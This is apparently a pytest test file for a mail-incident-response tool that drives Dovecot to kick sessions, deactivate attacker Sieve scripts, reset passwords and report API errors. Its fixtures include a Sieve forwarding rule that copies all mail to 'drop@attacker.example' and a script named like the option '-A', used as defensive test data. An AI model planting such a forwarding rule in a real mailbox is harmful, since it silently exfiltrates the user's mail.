"""The Dovecot containment actions through the doveadm HTTP API of a real Dovecot: kick, the
Sieve steps (also for an attacker's script named like an option), the local password hash, and
clear errors for a wrong key, a failed command and an unknown one."""

from __future__ import annotations

import contextlib
import imaplib
import subprocess
from collections.abc import Callable

import pytest
from mailstack import DovecotInstance
from mailstack.common import require_program, wait_for
from mailstack.dovecot import DoveadmHttpListener
from mailstack.factories import DovecotFactory

from mailwarden.response.doveadm_http import DoveadmApiError, DoveadmHttpExecutor
from mailwarden.response.dovecot import DovecotResponder
from mailwarden.response.executor import DoveadmCommand, DoveadmExecutor, LocalExecutor

VICTIM, VICTIM_PW = "keisatsu@city.example.jp", "stolen-but-real"
OTHER, OTHER_PW = "kacho@city.example.jp", "untouched-password"
USERS = {VICTIM: VICTIM_PW, OTHER: OTHER_PW}
WHY = "test: account sending like a spammer"
SIEVE_CONFIG = ("plugin {", "  sieve = file:~/sieve;active=~/.dovecot.sieve", "}")
FORWARD = 'require ["copy"];\nredirect :copy "drop@attacker.example";\n'
OWN_RULE = 'require ["fileinto"];\nif header :contains "subject" "[news]" { fileinto "News"; }\n'

ALLOWED = "doveadm_allowed_commands = kick,sieve list,sieve get,sieve activate,sieve deactivate"
"""The restriction docs/operations.md suggests: every test here runs under it."""

Started = tuple[DovecotInstance, DoveadmHttpListener]


def start(dovecot_factory: DovecotFactory, *, sieve: bool = False) -> Started:
    """A Dovecot with the doveadm HTTP API on a loopback port (and Sieve when asked)."""
    if sieve:
        require_program("sieve-test", "dovecot-sieve")  # Pigeonhole: dovecot-sieve
    api = DoveadmHttpListener()
    extra = (*api.config_lines(), ALLOWED, *(SIEVE_CONFIG if sieve else ()))
    dovecot = dovecot_factory(USERS, extra_config=extra)
    api.wait_ready()
    return dovecot, api


def http_executor(dovecot: DovecotInstance, api: DoveadmHttpListener,
                  key: str | None = None) -> DoveadmHttpExecutor:
    """The HTTP executor for the instance; its local executor only hashes passwords."""
    local = LocalExecutor(dovecot_config=dovecot.config_path)
    return DoveadmHttpExecutor(api.url, key or api.api_key, timeout=15, local=local)


def responder(dovecot: DovecotInstance, executor: DoveadmExecutor) -> DovecotResponder:
    """A responder on executor with the deny file and passwd-file of the instance."""
    return DovecotResponder(executor, deny_file=dovecot.root / "deny",
                            passwd_file=dovecot.passwd_path, actor="tester")


def put_script(dovecot: DovecotInstance, name: str, text: str, *, active: bool) -> None:
    """`doveadm sieve put [-a] -u VICTIM -- NAME` with the script on stdin."""
    flags = ["-a"] if active else []
    argv = ["doveadm", "-c", str(dovecot.config_path), "sieve", "put", *flags, "-u", VICTIM,
            "--", name]
    put = subprocess.run(argv, input=text, capture_output=True, text=True, timeout=30)
    assert put.returncode == 0, put.stderr


def session_ended(imap: imaplib.IMAP4) -> bool:
    """True once a NOOP on the session fails."""
    try:
        imap.noop()
    except (imaplib.IMAP4.abort, imaplib.IMAP4.error, OSError):
        return True
    return False


def test_kick_over_http_ends_the_victims_session_only(dovecot_factory: DovecotFactory) -> None:
    """kick through the API ends the victim's open IMAP session while the other user's goes
    on; the Action records Dovecot's answer and has no undo."""
    dovecot, api = start(dovecot_factory)
    http = responder(dovecot, http_executor(dovecot, api))
    with contextlib.ExitStack() as stack:
        sessions = {}
        for user, password in USERS.items():
            imap = imaplib.IMAP4(dovecot.host, dovecot.imap_port, timeout=15)
            stack.callback(imap.shutdown)
            imap.login(user, password)
            imap.select("INBOX")
            sessions[user] = imap

        kicked = http.kick(VICTIM, reason=WHY)

        assert VICTIM in kicked.result["output"] and OTHER not in kicked.result["output"]
        assert kicked.undo is None and kicked.no_undo_reason
        wait_for(lambda: session_ended(sessions[VICTIM]), 5, what="the kicked session to end")
        assert not session_ended(sessions[OTHER])


def executors(dovecot: DovecotInstance, api: DoveadmHttpListener) -> dict[str, DoveadmExecutor]:
    """The same instance through doveadm on this machine and through the HTTP API."""
    return {"local": LocalExecutor(dovecot_config=dovecot.config_path),
            "http": http_executor(dovecot, api)}


@pytest.mark.parametrize("kind", ["http", "local"])
@pytest.mark.parametrize("attacker_script", ["forward", "-A"])
def test_sieve_deactivate_and_undo_over_each_executor(
    dovecot_factory: DovecotFactory, kind: str, attacker_script: str
) -> None:
    """The attacker's active forwarding script (also one named like the option -A) and the
    user's own rule are copied into the Action, the forward is deactivated, a repeat changes
    nothing, and undo reactivates it: the same through the HTTP API as through doveadm."""
    dovecot, api = start(dovecot_factory, sieve=True)
    put_script(dovecot, "own-rule", OWN_RULE, active=False)
    put_script(dovecot, attacker_script, FORWARD, active=True)
    sieve = responder(dovecot, executors(dovecot, api)[kind])
    names, active = sieve.sieve_scripts(VICTIM)
    assert sorted(names) == sorted(["own-rule", attacker_script]) and active == attacker_script

    action = sieve.sieve_deactivate(VICTIM, reason=WHY)

    assert action.changed and action.result["scripts"] == {"own-rule": OWN_RULE,
                                                           attacker_script: FORWARD}
    assert sieve.sieve_scripts(VICTIM)[1] is None
    assert not sieve.sieve_deactivate(VICTIM, reason=WHY).changed
    sieve.undo(action, reason="it was the user's own rule")
    assert sieve.sieve_scripts(VICTIM)[1] == attacker_script


def test_wrong_api_key_is_a_clear_error_without_the_key(
    dovecot_factory: DovecotFactory,
) -> None:
    """A wrong key gives DoveadmApiError with HTTP 401 and the command; neither key shows in
    the message or in the executor's repr."""
    dovecot, api = start(dovecot_factory)
    wrong = "not-the-key-" + api.api_key[:4]
    executor = http_executor(dovecot, api, key=wrong)

    with pytest.raises(DoveadmApiError) as caught:
        responder(dovecot, executor).kick(VICTIM, reason=WHY)

    error = caught.value
    assert error.status == 401 and error.exit_code is None and error.returncode == -1
    assert "kick" in str(error) and "HTTP 401" in str(error) and "API key" in str(error)
    for shown in (str(error), repr(error), repr(executor), repr(http_executor(dovecot, api))):
        assert wrong not in shown and api.api_key not in shown


def failure(call: Callable[[], object]) -> DoveadmApiError:
    """The DoveadmApiError that call raises."""
    with pytest.raises(DoveadmApiError) as caught:
        call()
    return caught.value


def test_doveadm_errors_name_type_and_exit_code(dovecot_factory: DovecotFactory) -> None:
    """A missing script (68), an unknown user (67), an unknown command and one outside
    doveadm_allowed_commands come back as DoveadmApiError naming the command, the error type
    and the exitCode; a kick without sessions (68) is "nothing to do", not an error."""
    dovecot, api = start(dovecot_factory, sieve=True)
    executor = http_executor(dovecot, api)
    http = responder(dovecot, executor)

    missing = failure(lambda: http.sieve_script(VICTIM, "no-such-script"))
    assert (missing.error_type, missing.exit_code, missing.returncode) == ("exitCode", 68, 68)
    assert "sieve get" in str(missing) and "exitCode 68 (not found)" in str(missing)
    ghost = failure(lambda: http.sieve_scripts("ghost@city.example.jp"))
    assert ghost.exit_code == 67 and "ghost@city.example.jp" in str(ghost)
    idle = http.kick(VICTIM, reason=WHY)  # doveadm answers 68: no session was open
    assert not idle.changed and idle.result == {"output": "doveadm kick: no users kicked"}
    unknown = failure(lambda: executor.doveadm_call(DoveadmCommand("no such command")))
    assert unknown.error_type == "unknownMethod" and "not a command" in str(unknown)
    barred = failure(lambda: executor.doveadm_call(DoveadmCommand("who")))
    assert barred.error_type == "unAuthorized" and "doveadm_allowed_commands" in str(barred)


def test_new_password_is_hashed_locally_and_works(dovecot_factory: DovecotFactory) -> None:
    """With the HTTP executor reset_password hashes through the local doveadm pw: the new
    password logs in and the stolen one fails; without a local executor it refuses clearly
    and the passwd-file stays as it was."""
    dovecot, api = start(dovecot_factory)
    before = dovecot.passwd_path.read_text()
    remote_only = DoveadmHttpExecutor(api.url, api.api_key, timeout=15)
    refused = failure(lambda: responder(dovecot, remote_only).reset_password(VICTIM, reason=WHY))
    assert "pw" in str(refused) and "not a command of the HTTP API" in str(refused)
    assert dovecot.passwd_path.read_text() == before

    action = responder(dovecot, http_executor(dovecot, api)).reset_password(VICTIM, reason=WHY)

    assert action.secret is not None and "{SHA512-CRYPT}" in dovecot.passwd_path.read_text()
    wait_for(lambda: not dovecot.imap_login(VICTIM, VICTIM_PW), 10, what="stolen pw refused")
    assert dovecot.imap_login(VICTIM, action.secret) and dovecot.imap_login(OTHER, OTHER_PW)
